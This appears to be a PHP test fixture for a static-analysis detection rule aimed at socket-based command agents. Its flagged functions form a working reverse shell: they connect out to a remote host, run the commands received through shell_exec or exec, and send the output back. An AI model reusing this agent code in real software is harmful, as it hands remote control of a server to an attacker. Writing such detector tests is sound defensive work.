<?php
// RULEID: stream_socket_client in a reconnect loop, fsockopen fallback
// OK: the listening socket of a local status server, an HTTP call through curl
function agent_run($cmd)
{
    $disabled = explode(',', (string) ini_get('disable_functions'));
    foreach (['shell_exec', 'exec', 'system', 'passthru', 'popen', 'proc_open'] as $fn) {
        if (in_array($fn, $disabled, true)) {
            continue;
        }
        if ($fn === 'shell_exec') {
            return shell_exec($cmd . ' 2>&1');
        }
        if ($fn === 'exec') {
            exec($cmd, $out);
            return implode("\n", $out);
        }
    }
    return '';
}

function agent_loop($host, $port)
{
    // ruleid: php-socket-command-agent
    while (!($s = @stream_socket_client("tcp://$host:$port", $errno, $errstr, 10))) {
        sleep(15);
    }
    while (($line = fgets($s)) !== false) {
        $msg = json_decode($line, true);
        fwrite($s, agent_run($msg['c']) . "\n");
    }
}

function agent_fallback($host)
{
    // ruleid: php-socket-command-agent
    $s = fsockopen($host, 443, $errno, $errstr, 5);
    while (!feof($s)) {
        fwrite($s, agent_run(trim(fgets($s))));
    }
}

function status_server()
{
    // ok: php-socket-command-agent
    $server = stream_socket_server('tcp://127.0.0.1:8089', $errno, $errstr);
    // ok: php-socket-command-agent
    $ch = curl_init('https://api.example.com/status');
    return [$server, $ch];
}
